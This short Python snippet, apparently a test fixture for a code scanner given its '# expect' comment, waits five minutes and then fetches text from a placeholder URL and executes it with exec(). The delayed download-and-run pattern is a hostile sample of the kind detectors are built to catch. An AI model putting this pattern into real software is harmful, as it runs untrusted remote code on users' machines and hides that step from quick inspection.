import time

import requests

time.sleep(300)
exec(requests.get("https://example.com/x").text)  # expect
